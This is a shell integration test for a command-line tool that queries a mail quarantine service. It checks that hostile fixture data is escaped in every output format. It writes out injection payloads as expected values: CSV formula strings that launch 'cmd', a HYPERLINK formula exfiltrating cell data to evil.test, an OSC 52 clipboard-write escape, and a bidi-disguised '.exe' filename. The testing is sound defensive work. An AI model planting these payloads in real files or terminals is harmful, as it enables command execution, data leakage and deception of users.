# Hostile data (tests/fixtures/hostile.json: ESC sequences, OSC 52, CSI U+009B, the bidi
# override U+202E, BEL, spreadsheet formulas) through every output format, into a pipe and on a
# terminal (script(1) at 80 columns): nothing reaches the terminal raw, CSV cells never start a
# formula unless --csv-raw, JSON keeps the data exact with C1 and bidi controls escaped.
. "$(dirname "$0")/lib.sh"

sim_start --fixture "$FIXTURES/hostile.json" || exit 1
WIN=(start_time=2021-03-01T00:00:00Z end_time=2021-03-02T00:00:00Z)
QG=H0stileQuarantine000000000000001
CMDS=("smart-search ${WIN[*]} recipient=victim@example.com"
	"quarantine-messages-list ${WIN[*]} recipient=victim@example.com"
	"get-user email=victim@example.com")

# raw_controls FILE: prints how many terminal controls FILE holds (ESC but the table header's
# bold on/off, BEL, CSI U+009B, the bidi controls U+202A-E and U+2066-9).
raw_controls() {
	LC_ALL=C sed -e 's/\x1b\[1m//g; s/\x1b\[0m//g; s/\x1b\[3[13]m//g' "$1" |
		LC_ALL=C grep -c -P '\x1b|\x07|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]'
}

# on_tty COLS FILE ARGS...: runs pps with ARGS on a terminal COLS wide, output into FILE.
on_tty() {
	local cols=$1 file=$2
	shift 2
	printf 'stty cols %s rows 50; exec' "$cols" >"$T_DIR/tty.sh"
	printf ' %q' env PPS_URL="$SIM_URL" PPS_USERNAME=admin PPS_PASSWORD=admin-pass \
		PPS_CACERT="$SIM_CACERT" "$PPS" "$@" >>"$T_DIR/tty.sh"
	script -qec "bash $T_DIR/tty.sh" /dev/null >"$file" 2>&1 </dev/null
}

for cmd in "${CMDS[@]}"; do
	read -ra words <<<"$cmd"
	for fmt in table wide markdown json ndjson csv tsv; do
		pps_admin -o $fmt "${words[@]}"
		expect_rc 0 "$fmt ${words[0]}"
		printf '%s' "$OUT" >"$T_DIR/pipe.out"
		[ -s "$T_DIR/pipe.out" ] && ok || fail "$fmt ${words[0]} printed nothing"
		expect_eq "$(raw_controls "$T_DIR/pipe.out")" 0 "$fmt ${words[0]} into a pipe: raw controls"
		on_tty 80 "$T_DIR/tty.out" -o $fmt "${words[@]}"
		expect_eq "$(raw_controls "$T_DIR/tty.out")" 0 "$fmt ${words[0]} on a terminal: raw controls"
	done
	# CSV: no cell starts a formula, no control in a cell; --csv-raw writes them verbatim
	pps_admin -o csv "${words[@]}"
	python3 "$PPS_SOURCE_DIR/tests/integration/helpers/csv_check.py" <<<"$OUT" && ok ||
		fail "csv ${words[0]} holds a formula or a control"
	# TSV: a tab or line break in a cell is escaped: as many cells on every line as the header
	pps_admin -o tsv "${words[@]}"
	expect_eq "$(awk -F'\t' '{ print NF }' <<<"$OUT" | sort -u | wc -l)" 1 "tsv ${words[0]}: one cell count"
	expect_eq "$(grep -c . <<<"$OUT")" "$(($(pps_admin -o ndjson "${words[@]}"; grep -c . <<<"$OUT") + 1))" \
		"tsv ${words[0]}: one line per record"
done

# the table shows what it hides: the escapes are visible
pps_admin smart-search "${WIN[@]}" guid=H0stileGuid00000000000000000001a
expect_out_has '\x1b]52;c;ZWNobyBwd25lZA==\x07'
expect_out_has '\u202efdp.exe'
pps_admin -o markdown smart-search "${WIN[@]}" guid=H0stileGuid00000000000000000001a
expect_out_has '\x1b[2J\x1b[H'
pps_admin -o csv smart-search "${WIN[@]}" guid=H0stileGuid00000000000000000001a
expect_out_has "\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1"
pps_admin -o csv --fields QID,SID,Message_ID smart-search "${WIN[@]}" guid=H0stileGuid00000000000000000001a
expect_eq "$(sed -n 2p <<<"$OUT")" "'+cmd|' /C calc'!A0,'@SUM(1+1)*cmd|' /C calc'!A0,'-2+3+cmd|' /C calc'!A0" "formula guard"
pps_admin -o csv --csv-raw --fields QID,Subject smart-search "${WIN[@]}" guid=H0stileGuid00000000000000000001a
expect_out_has "+cmd|' /C calc'!A0,\"=HYPERLINK("
[ "$(printf '%s' "$OUT" | LC_ALL=C grep -c $'\x1b')" -gt 0 ] && ok || fail "--csv-raw keeps the cells verbatim"

# JSON keeps the data exact (a JSON reader gets the server's text back), escaped on the wire
pps_admin -o json smart-search "${WIN[@]}" guid=H0stileGuid00000000000000000001a
expect_out_has '\u009b31m'
expect_out_has '\u202efdp.exe'
expect_eq "$(jq -r '.Proofpoint.SmartSearch[0].Subject' <<<"$OUT" | od -An -tx1 | tr -d ' \n' | grep -c '1b5d35323b63')" 1 "json round trip keeps ESC"
pps_admin -o ndjson quarantine-messages-list "${WIN[@]}" recipient=victim@example.com
expect_eq "$(jq -r .subject <<<"$OUT" | LC_ALL=C grep -c $'\xe2\x80\xae')" 1 "ndjson round trip keeps U+202E"

# the raw message: byte-exact into a pipe, controls shown on a terminal
curl -sS --cacert "$SIM_CACERT" -u admin:admin-pass -o "$T_DIR/curl.eml" "$SIM_URL/rest/v1/quarantine?guid=$QG"
run env PPS_URL="$SIM_URL" PPS_USERNAME=admin PPS_PASSWORD=admin-pass PPS_CACERT="$SIM_CACERT" sh -c '"$0" quarantine-messages-list guid='$QG' >"$1"' "$PPS" "$T_DIR/pipe.eml"
cmp -s "$T_DIR/curl.eml" "$T_DIR/pipe.eml" && ok || fail "raw message into a pipe is not byte-exact"
on_tty 80 "$T_DIR/tty.eml" quarantine-messages-list guid=$QG
expect_eq "$(raw_controls "$T_DIR/tty.eml")" 0 "raw message on a terminal: raw controls"
grep -qF '\x1b[2J' "$T_DIR/tty.eml" && ok || fail "raw message on a terminal hides ESC instead of showing it"
for fmt in raw json; do
	on_tty 80 "$T_DIR/tty.out" -o $fmt smart-search "${WIN[@]}" recipient=victim@example.com
	expect_eq "$(raw_controls "$T_DIR/tty.out")" 0 "-o $fmt smart-search on a terminal: raw controls"
done

# stderr: a hostile word in an error is shown, not obeyed
pps_admin smart-search $'\e]52;c;eA\a=1'
expect_rc 2 "hostile argument name"
expect_err_has 'unknown argument '"'"'\x1b]52;c;eA\x07'"'"
[ "$(printf '%s' "$ERR" | LC_ALL=C grep -c $'\x1b')" = 0 ] && ok || fail "ESC on stderr"

# --dry-run echoes the command line's values as they go on the wire: percent-encoded, never obeyed
run "$PPS" --dry-run get-user "email=a$(printf '\033[2J')b@x"
expect_out 'GET /rest/v1/enduser/a%1B%5B2Jb@x'
run "$PPS" --dry-run smart-search start_time=2021-01-01T00:00:00Z "subject=x$(printf '\342\200\256')y"
expect_out 'GET /rest/v1/pss/filter?from=2021-01-01T00%3A00%3A00%2B0000&subject=x%E2%80%AEy&count=100'

done_testing
